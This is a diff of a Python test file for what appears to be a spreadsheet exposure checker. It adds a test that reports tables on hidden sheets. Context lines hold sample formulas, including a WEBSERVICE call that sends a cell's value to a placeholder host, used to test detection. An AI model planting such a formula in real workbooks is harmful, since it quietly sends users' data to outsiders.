@@ -35,6 +35,13 @@ def test_our_formulas_on_a_sheet_that_is_not_shown_are_told() -> None:
     ]
 
 
+def test_a_table_on_a_sheet_that_is_not_shown_is_told() -> None:
+    tables = (looked_at("Form", False, [], tables=True), looked_at("x", True, [], tables=True))
+    assert list(sentences(Exposure(tables))) == [
+        "A table on a sheet that is not shown may be filled, too: x."
+    ]
+
+
 def test_functions_that_can_send_data_away_are_told_with_their_sheets() -> None:
     formulas = ['=_xlfn.WEBSERVICE("https://x.example/"&A1)', '=HYPERLINK("https://x.example")']
     sheets = (looked_at("Form", False, formulas), looked_at("Data", False, ["=A1"]))
